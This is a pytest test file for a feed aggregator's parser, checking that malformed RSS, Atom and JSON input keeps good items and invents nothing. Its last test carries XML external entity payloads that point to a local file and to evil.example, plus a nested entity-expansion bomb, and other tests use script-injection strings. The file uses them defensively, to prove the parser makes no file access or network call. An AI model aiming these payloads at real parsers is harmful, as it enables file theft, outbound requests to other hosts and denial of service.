"""F53, F54, F57, F60 and what feedparser does on bad input: good items stay, nothing is invented."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable

import pytest

from aggregator.errors import ReadError
from aggregator.models import Reading
from aggregator.read import ReadRequest, read
from aggregator.read.limits import MAX_TITLE

HEAD = '<?xml version="1.0"?><rss version="2.0"><channel><title>Box</title>'
TAIL = "</channel></rss>"
NAMED = '<rss version="2.0"><channel><title>'


def entry(at: int, title: str = "") -> str:
    return f"<item><title>No {at}{title}</title><link>https://box.example/{at}</link></item>"


def links(reading: Reading) -> list[str]:
    return [found.url.text for found in reading.candidates if found.url]


BAD = [
    "&#xD800;", "&#x110000;", "&#99999999999;", "&#0;", "&#1;", "&#xFFFE;", "&nbsp;", "&unknown;", "&", "<b>",
    "</b>", "\x01", "\x0b", "\ufffe", "]]>", "<![CDATA[ </item> ]]>", "<![CDATA[<![CDATA[x]]>", "<!-- -- -->",
    "<script>alert(1)</script>", "&lt;script&gt;",
]  # fmt: skip


@pytest.mark.parametrize("bad", BAD)
def test_neighbours_of_a_bad_item_survive(bad: str, ask: Callable[..., ReadRequest]) -> None:
    body = HEAD + entry(1) + entry(2, bad) + entry(3) + TAIL
    found = links(read(ask(body)))
    assert {"https://box.example/1", "https://box.example/3"} <= set(found)
    assert len(found) == len(set(found)) <= 3


def test_a_broken_off_feed_keeps_its_good_items_and_says_so(ask: Callable[..., ReadRequest]) -> None:
    body = HEAD + "".join(map(entry, range(20))) + "<item><title>Half a ti"
    reading = read(ask(body))
    assert links(reading)[:20] == [f"https://box.example/{at}" for at in range(20)]
    assert not any(found.title and "Half" in found.title.text for found in reading.candidates)
    assert not reading.complete
    assert "truncated" in reading.notes


@pytest.mark.parametrize("at", range(0, 130, 7))
def test_no_cut_invents_an_address(at: int, ask: Callable[..., ReadRequest]) -> None:
    body = HEAD + entry(1) + entry(2) + TAIL
    try:
        reading = read(ask(body[: len(HEAD) + at]))
    except ReadError:
        return
    assert set(links(reading)) <= {"https://box.example/1", "https://box.example/2"}
    assert not reading.complete


def test_an_empty_feed_is_a_feed_and_an_unknown_document_is_not(ask: Callable[..., ReadRequest]) -> None:
    assert read(ask(HEAD + TAIL)).candidates == ()
    with pytest.raises(ReadError) as caught:
        read(ask("<channel>nothing a reader knows</channel>"))
    assert caught.value.reason == "not-a-feed"


def test_a_title_has_a_limit(ask: Callable[..., ReadRequest]) -> None:
    [found] = read(ask(HEAD + entry(1, "x" * 1_000_000) + TAIL)).candidates
    assert found.title is not None
    assert len(found.title.text) == MAX_TITLE


@pytest.mark.parametrize(
    ("body", "title"),
    [
        (f"{NAMED}&lt;b&gt;Port&lt;/b&gt; News &amp;amp; Views</title>{TAIL}", "Port News & Views"),
        (f"{NAMED}<![CDATA[Q &amp; <i>A</i>\u200b\n weekly]]></title>{TAIL}", "Q & A weekly"),
        (
            "<feed xmlns='http://www.w3.org/2005/Atom'><title type='text'>1 &lt; 2</title><entry/></feed>",
            "1 < 2",
        ),
        (
            "<feed xmlns='http://www.w3.org/2005/Atom'><title type='html'>1 &lt;b>2</title><entry/></feed>",
            "1 2",
        ),
        ('{"version": "https://jsonfeed.org/version/1", "title": "1 < 2\\n3", "items": []}', "1 < 2 3"),
        (
            "<html><title>One &amp;lt;b&gt;\n two</title><h2><a href=/x>words in a title</a></h2>",
            "One &lt;b> two",
        ),
    ],
)
def test_what_a_source_calls_itself_is_plain_text(
    body: str, title: str, ask: Callable[..., ReadRequest]
) -> None:
    assert read(ask(body)).title == title


ATOM = "<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>x</title>{}</entry></feed>"
RSS_DATED = (
    "<rss version='2.0' xmlns:dc='http://purl.org/dc/elements/1.1/'><channel><item><title>x</title>{}</item>"
    "</channel></rss>"
)
DAY, LATER = "2021-03-10T08:00:00Z", "2021-03-12T08:00:00Z"


@pytest.mark.parametrize(
    ("body", "stated"),
    [
        (ATOM.format(f"<updated>{LATER}</updated>"), [(LATER, "atom:updated")]),
        (
            ATOM.format(f"<updated>{LATER}</updated><published>{DAY}</published>"),
            [(DAY, "atom:entry/published")],
        ),
        (RSS_DATED.format(f"<dc:date>{DAY}</dc:date>"), [(DAY, "rss:item/updated")]),
        (RSS_DATED.format(f"<pubDate>{DAY}</pubDate>"), [(DAY, "rss:item/published")]),
        (ATOM.format(""), []),
    ],
)
def test_a_last_change_that_stands_in_for_publication_says_so(
    body: str, stated: list[tuple[str, str]], ask: Callable[..., ReadRequest]
) -> None:
    [found] = read(ask(body)).candidates
    assert [(date.text, date.where) for date in found.dates] == stated


@pytest.mark.parametrize(
    ("raw", "second"),
    [
        ("Wed, 10 Mar 2021 09:30:00 +0100", ""),
        ("2021-03-10", ""),
        ("Wed Mar 10 09:30:00 2021", "2021-03-10T09:30:00+00:00"),
        ("-001-01-01", ""),
        ("yesterday", ""),
        ("Κυρ, 11 Ιούλ 2004 12:00:00 EST", "2004-07-11T17:00:00+00:00"),
    ],
)
def test_dates_stay_raw(raw: str, second: str, ask: Callable[..., ReadRequest]) -> None:
    [found] = read(ask(HEAD + f"<item><title>x</title><pubDate>{raw}</pubDate></item>" + TAIL)).candidates
    assert [date.text for date in found.dates] == [raw, second][: 2 if second else 1]


@pytest.mark.parametrize(
    "guid", ["12", "tag:box.example,2021:1", "urn:uuid:0", "/relative", "javascript:alert(1)"]
)
def test_a_guid_that_is_no_address_becomes_no_link(guid: str, ask: Callable[..., ReadRequest]) -> None:
    [found] = read(ask(HEAD + f"<item><title>x</title><guid>{guid}</guid></item>" + TAIL)).candidates
    assert found.url is None
    assert found.guid is not None
    assert found.guid.text == guid


REACH = """
import sys
seen = []
def hook(event, args):
    if event in ("open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen"):
        seen.append((event, str(args[:2])))
from aggregator.read import ReadRequest
from aggregator.read.dispatch import read
from aggregator.errors import ReadError
from aggregator.settings.schema import Source
import encodings.idna
source = Source(url="https://box.example/")
def once(body):
    try:
        return read(ReadRequest(body=body, url="https://box.example/", source=source))
    except ReadError as error:
        return error.reason
once(b"<rss version='2.0'><channel><item><title>&#xD800;</title></item></channel></rss>")
once(b"<html><body><h2><a href='/a'>warm up the parsers</a></h2></body></html>"); once(b"<urlset></urlset>")
sys.addaudithook(hook)
canary = sys.argv[1]
for body in eval(sys.stdin.read()):
    told = repr(once(body))
    assert "CANARY" not in told, told
hits = [one for one in seen if canary in one[1] or one[0] != "open" or "example" in one[1]]
assert not hits, hits
"""


def test_no_entity_opens_a_file_or_a_connection(tmp_path: object) -> None:
    canary = f"{tmp_path}/canary.txt"
    with open(canary, "w") as file:  # noqa: PTH123 - a plain file is what an entity would open
        file.write("CANARY")
    lol = "".join(f"<!ENTITY l{at} '{f'&l{at - 1};' * 10}'>" for at in range(1, 10))
    doctypes = [
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{canary}'>]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/e'>]>",
        f"<!DOCTYPE x SYSTEM 'file://{canary}' [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>",
        f"<!DOCTYPE x [<!ENTITY l0 'lol'>{lol}<!ENTITY e '&l9;'>]>",
        f"<!DOCTYPE x [<!ENTITY e '{'x' * 50_000}'>]>",
    ]
    roots = [
        "<rss version='2.0'><channel><item><title>&e;{}</title></item></channel></rss>",
        "<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>&e;{}</title></entry></feed>",
        "<urlset><url><loc>&e;{}</loc></url></urlset>",
    ]
    bodies = [(doctype + root.format("")).encode() for doctype in doctypes for root in roots]
    bodies += [(doctype + root.format("&#xD800;&e;" * 40)).encode() for doctype in doctypes for root in roots]
    bodies += [canary.encode(), f"file://{canary}".encode(), b"http://evil.example/feed"]
    subprocess.run(
        [sys.executable, "-c", REACH, canary], input=repr(bodies), text=True, check=True, timeout=60
    )
